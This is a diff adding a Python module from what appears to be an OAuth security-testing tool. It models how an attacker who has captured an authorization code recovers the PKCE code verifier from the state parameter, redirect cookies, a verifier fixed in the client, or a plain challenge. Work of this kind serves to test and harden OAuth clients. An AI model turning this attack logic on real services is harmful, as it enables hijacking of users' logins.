@@ -1,0 +1,132 @@
+"""Where a thief may get the verifier of a captured code from (RFC 7636 section 7).
+
+Each way gives a verifier, or ``None`` where it leads nowhere: then the thief has to do without.
+"""
+
+import asyncio
+from collections.abc import Awaitable, Callable
+
+from attacker.hunt import Finding, Method, hunt
+from attacker.loot import LootBag, LootItem, Sighting
+from attacker.pkce import Pair, new_pair
+from attacker.vantage import Leg
+
+VICTIMS_LEGS = (Leg.AUTHORIZATION_RESPONSE, Leg.AUTHORIZATION_REQUEST)
+
+type Login = Callable[[], Awaitable[Sighting]]
+type Unpack = Callable[[], Awaitable[dict[str, str]]]
+
+
+class Verifiers:
+    """The verifiers within reach of one thief.
+
+    ``own_login`` is the login by which it knows the client, ``another_login`` begins one more, and
+    ``unpack`` gives the texts of its copy of the client, none if it has no copy.
+    """
+
+    def __init__(
+        self, loot: LootBag, own_login: Login, another_login: Login, unpack: Unpack
+    ) -> None:
+        self._loot = loot
+        self._own_login = own_login
+        self._another_login = another_login
+        self._unpack = unpack
+        self._pair: Pair | None = None
+
+    def new_challenge(self, method: str) -> str:
+        """A challenge of the thief's own; :meth:`own` is the verifier behind the newest."""
+        self._pair = new_pair(method)
+        return self._pair.challenge
+
+    def own(self) -> LootItem | None:
+        """The verifier behind the challenge that the thief chose itself, if it chose one."""
+        if self._pair is None:
+            return None
+        return self.keep(self._pair.verifier, Leg.OWN, "", "chosen by itself")
+
+    def best_guess(self) -> LootItem | None:
+        """The challenge behind the captured code, if it was seen: for ``plain``, the verifier."""
+        request = self._request_behind_code()
+        if request is None or "code_challenge" not in request.parameters:
+            return None
+        where = f"guessed: the challenge, read in {request.where}"
+        challenge = request.parameters["code_challenge"]
+        return self.keep(challenge, request.leg, request.seen_in, where)
+
+    async def from_state(self) -> LootItem | None:
+        """The verifier that the victim's redirect carries in ``state``.
+
+        The thief proves on a login of its own where the verifier sits, then reads the same place
+        in the victim's ``state``.
+        """
+        own = await self._own_login()
+        finding = await _prove(own, {own.where: own.parameters.get("state", "")})
+        theirs = self._loot.find("state", *VICTIMS_LEGS)
+        verifier = finding.recipe.apply(theirs.value) if finding and theirs else None
+        if verifier is None or finding is None or theirs is None:
+            return None
+        where = f"state of the victim's redirect > {finding.recipe}"
+        return self.keep(verifier, theirs.leg, theirs.seen_in, where)
+
+    async def from_cookies(self) -> LootItem | None:
+        """The verifier that the victim's browser carried in the cookies of the redirect.
+
+        Where a response alone was seen, nothing proves a candidate: the thief takes the first
+        cookie that could be one (RFC 7636 section 4.1).
+        """
+        cookies = self._loot.find("cookie", Leg.REDIRECT_COOKIES)
+        request = self._request_behind_code()
+        if cookies is None:
+            return None
+        finding = await _prove(request, {cookies.where: cookies.value}) if request else None
+        if finding is None:
+            return None
+        return self.keep(finding.verifier, cookies.leg, cookies.seen_in, str(finding.recipe))
+
+    async def fixed(self) -> LootItem | None:
+        """The one verifier that every copy of the client uses.
+
+        It shows itself on an own login with ``plain``; with ``S256`` in the code of the client,
+        for a thief whose vantage holds a copy. Either way two logins of the thief's own prove it:
+        the challenge does not change.
+        """
+        own, again = await self._own_login(), await self._another_login()
+        if own.parameters.get("code_challenge") != again.parameters.get("code_challenge"):
+            return None
+        texts = {again.where: again.text}
+        if method_of(own) != Method.PLAIN:
+            texts = await self._unpack()
+        finding = await _prove(own, texts)
+        if finding is None:
+            return None
+        return self.keep(
+            finding.verifier, Leg.OWN, again.seen_in, f"{finding.source} > {finding.recipe}"
+        )
+
+    def keep(self, value: str, leg: Leg, seen_in: str, where: str) -> LootItem:
+        """Note a verifier, or what the thief takes for one, with where it comes from."""
+        return self._loot.add(LootItem("code_verifier", value, leg, seen_in, where))
+
+    def _request_behind_code(self) -> Sighting | None:
+        """The newest request that was seen, with the ``state`` that came back beside the code."""
+        state = self._loot.find("state", Leg.AUTHORIZATION_RESPONSE)
+        for sighting in reversed(self._loot.sightings):
+            if sighting.leg is Leg.AUTHORIZATION_REQUEST and (
+                state is None or sighting.parameters.get("state") == state.value
+            ):
+                return sighting
+        return None
+
+
+async def _prove(login: Sighting, texts: dict[str, str]) -> Finding | None:
+    """The verifier of this login's challenge, found in one of the texts."""
+    if "code_challenge" not in login.parameters:
+        return None
+    # The search hashes a lot; the proxy and the browsers share this event loop.
+    challenge = login.parameters["code_challenge"]
+    return await asyncio.to_thread(hunt, texts, challenge, method_of(login))
+
+
+def method_of(login: Sighting) -> str:
+    """The ``code_challenge_method`` of a login (RFC 7636 section 4.3: left out, it is plain)."""
+    return login.parameters.get("code_challenge_method", Method.PLAIN)
